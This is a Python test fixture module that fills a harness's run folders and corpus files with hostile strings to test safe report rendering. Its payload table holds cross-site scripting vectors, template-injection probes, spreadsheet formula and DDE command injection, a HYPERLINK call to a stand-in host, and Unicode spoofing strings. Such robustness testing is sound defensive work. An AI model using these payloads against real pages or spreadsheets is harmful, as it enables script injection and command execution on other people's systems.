"""Texts that try to run, to fetch, to mislead or to break the page, put into all that a run takes from others."""

import csv
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from itertools import cycle
from pathlib import Path
from typing import Any

from harness.evidence import addenda
from harness.evidence.folder import RunFolder
from harness.model.addendum import Adjudication, ClauseJudgement, Finding, Invalidation
from harness.model.case import Case
from harness.model.check import Check, Group, Tried
from harness.model.observation import Asset
from harness.model.words import Arm, Expectation, Verdict
from tests import builders
from tests.report import runs

OUTSIDE = "https://outside.test"
PAYLOADS = {
    "script": f"<script>sentinel();fetch('{OUTSIDE}/a')</script>",
    "closing": "</style></title></script></textarea></pre>--><script>sentinel()</script>",
    "attribute": "\" autofocus tabindex=0 onfocus=sentinel() onmouseover='sentinel()' x=\"",
    "single": "' onload='sentinel()' style='position:fixed;inset:0;background:red' x='",
    "picture": f"<img src={OUTSIDE}/b onerror=sentinel()><picture><source srcset={OUTSIDE}/c></picture>",
    "svg": "<svg onload=sentinel()><animate onbegin=sentinel() attributeName=x dur=1s></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=sentinel()&gt;'>",
    "frame": f"<iframe srcdoc='<script>parent.sentinel()</script>'></iframe><object data={OUTSIDE}/d></object>",
    "head": f"<base href={OUTSIDE}/><meta http-equiv=refresh content='0;url={OUTSIDE}/e'><link rel=stylesheet href=f>",
    "scheme": "javascript:sentinel()",
    "data": "data:text/html,<script>opener.sentinel()</script>",
    "template": "{{ 7*191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*191}#{7*191}",
    "style": f"}} * {{ background: url({OUTSIDE}/g) }} @import '{OUTSIDE}/h'; \\22 /*",
    "formula": '=HYPERLINK("https://outside.test/"&A1)',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1-1",
    "tab": "\t=1+1",
    "bidi": "\u202egnp.txt\u202c \u2066\u202b right \u2069 \u200fabc",
    "unseen": "pa\u200by\u200dp\u2060al\ufeff\u00ad\u034f\u3164\u115f",
    "control": "\0\a\b\x1b[2J\x1b]0;title\x07\x9b31m\r\n\v\f\x7f\x85\u2028\u2029",
    "look-alike": "\u0430\u0440\u0440\u04cf\u0435.example",
    "halves": "\ud800 half \udfff",
    "cdata": "]]><script>sentinel()</script><![CDATA[",
    "markdown": f"[click](javascript:sentinel()) ![]({OUTSIDE}/i) <{OUTSIDE}> `code`",
    "entities": "&lt;script&gt;sentinel()&lt;/script&gt;&#x202e;&NewLine;&colon;",
    "marks": "Z\u0351\u036b\u0343\u036a\u0302" + "\u0300" * 2000,
    "long": "W" * 100_000,
    "words": "WWWW " * 20_000,
}
UNREAL = re.compile("[\0-\x20\x7f-\xa0\u2028\u2029\ud800-\udfff]")  # what no URL of a corpus has as it stands
CATEGORIES = {f"kind-{number}": text for number, text in enumerate(PAYLOADS.values())}


def folder(path: Path, **changes: Any) -> RunFolder:
    """A sealed run that holds every payload as URL, text of the page, answer, category and fixture's label, and some of
    them everywhere else; its cases are wrong or unscored."""
    planned = [case for number, text in enumerate(PAYLOADS.values()) for case in _cases(number, _writable(text))]
    fates = {
        case.case_id: fate
        for case, fate in zip(planned, cycle(("arrives", "blocked", "altered", "challenged")), strict=False)
    }
    made = _profiles(_turns()) | _checks(_turns()) | changes
    folder = runs.run(
        path, planned, fates, seen=_seen, shots={case.case_id: runs.JPEG for case in planned[::5]}, **made
    )
    who: dict[str, Any] = {"author": PAYLOADS["script"], "reason": PAYLOADS["attribute"]}
    who |= {"blind": True, "date": builders.NOW}
    machine: dict[str, Any] = {"machine_verdict": Verdict.ALLOWED, "machine_rule": "allowed.token"}
    about: list[dict[str, Any]] = [{"case_id": case.case_id, "setting": "moderate"} for case in planned[:2]]
    addenda.append(folder, Adjudication(verdict=Verdict.BLOCKED, **about[0], **machine, **who))
    addenda.append(folder, Invalidation(**about[1], **who))
    addenda.append(folder, ClauseJudgement(clause="5", finding=Finding.NOT_MET, **who))
    return folder


def corpus(path: Path) -> None:
    """A corpus of files that holds payloads as title, category, URL, language, source and rater."""
    path.mkdir()
    titles = {key: _writable(text)[:200] for key, text in CATEGORIES.items()}
    told = {"name": "hostile", "title": PAYLOADS["script"], "version": PAYLOADS["closing"]}
    lines = [f"{key} = {json.dumps(text)}" for key, text in told.items()]
    lines += ["[categories]", *(f"{key} = {json.dumps(text).replace(chr(127), '')}" for key, text in titles.items())]
    (path / "corpus.toml").write_text("\n".join(lines), "utf-8")
    with (path / "cases.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(("case_id", "url", "category", "expectation", "language", "lookalike_of", "source", "rater"))
        for number, text in enumerate(PAYLOADS.values()):
            for case in _cases(number, _writable(text).replace("\0", "")[:1000]):
                kept = (case.category, case.expectation, case.language, case.lookalike_of, case.source, case.rater)
                rows.writerow((f"case-{number}-{case.expectation}", case.url, *kept))


def _checks(turn: Iterator[str]) -> dict[str, Any]:
    """Checks with payloads as texts, and tries that showed them."""
    texts = list(PAYLOADS.values())
    ways = tuple(
        Check(f"battery.way-{number}", Group.BATTERY, next(turn), next(turn), 3, "visit", "passage", source=next(turn))
        for number in range(len(texts))
    )
    tried = []
    for number, (way, text) in enumerate(zip(ways, texts, strict=True)):
        seen = Tried(way.id, Arm.TEST, "moderate", 1, number % 2 == 0, {"how": text, "facts": {text[:99]: [text]}})
        if number % 5 == 0:
            tried.append(replace(seen, fault=text))
        elif number % 7 == 0:
            tried.append(replace(seen, inapplicable=text))
        else:
            tried += [replace(seen, arm=Arm.CONTROL, setting="", came_through=True), seen, replace(seen, number=2)]
    return {"checks": ways, "tried": tried}


def _cases(number: int, text: str) -> Iterator[Case]:
    told = {"language": text[:40], "source": text, "rater": text, "lookalike_of": text}
    for expectation in Expectation:
        yield builders.case(
            f"case:{number}/@{expectation}",
            url=f"http://case-{number}-{expectation}.test/?{UNREAL.sub('', text)}#{UNREAL.sub('', text)}",
            category=f"kind-{number}",
            expectation=expectation,
            **told,
        )


def _seen(case: Case) -> dict[str, Any]:
    text = CATEGORIES[case.category]
    return {
        "title": text,
        "text_start": text,
        "error": text,
        "fault": text,
        "mime": text,
        "final_url": f"http://x.test/{text}",
        "headers": ((text, text), ("location", text)),
        "assets": (Asset(text, text),),
    }


def _profiles(turn: Iterator[str]) -> dict[str, Any]:
    """Product, corpus, criteria and all else that is decided before the run."""
    level = {name: {"title": next(turn), "values": {"a": next(turn)}} for name in ("moderate", "most")}
    product = {
        **runs.PRODUCT,
        "title": next(turn),
        "description": next(turn),
        "limitations": [next(turn), next(turn)],
        "limit": [{"what": "paths", "when": {}, "text": next(turn)}],
        "settings": {"default": "moderate", "level": level},
        "params": {"lists": {"kind": "text", "description": next(turn), "default": ""}},
    }
    tree = [
        {"id": "4", "title": next(turn)[:90], "assessed": "measured", "note": next(turn)[:90]},
        {"id": "5", "title": next(turn)[:90], "assessed": "by-hand", "note": next(turn)[:90]},
    ]
    criterion = runs.BLOCK.model_copy(update={"title": next(turn)[:300], "source": f"{next(turn)[:1980]} (made up)"})
    corpus = {"name": next(turn), "title": next(turn), "version": next(turn), "digest": next(turn), "cases": 1}
    return {
        "settings": ("moderate", "most"),
        "product": product,
        "identity": {"version": next(turn), "lists": next(turn)},
        "params": {"lists": next(turn)},
        "corpus": {**corpus, "categories": {key: _writable(text) for key, text in CATEGORIES.items()}},
        "criteria": builders.criteria(
            criterion, title=next(turn)[:300], notice=next(turn)[:300], authority=next(turn)[:300], clause=tree
        ).model_dump(mode="json", by_alias=True),
        "stop": {"complete": True, "reason": "", "strays": {next(turn): 1}},
    }


def _turns() -> Iterator[str]:
    return cycle([_writable(text) for text in PAYLOADS.values()])


def _writable(text: str) -> str:
    """Halves of characters cannot be in a file of a person, but in what a browser says."""
    return text.encode("utf-8", "replace").decode("utf-8")
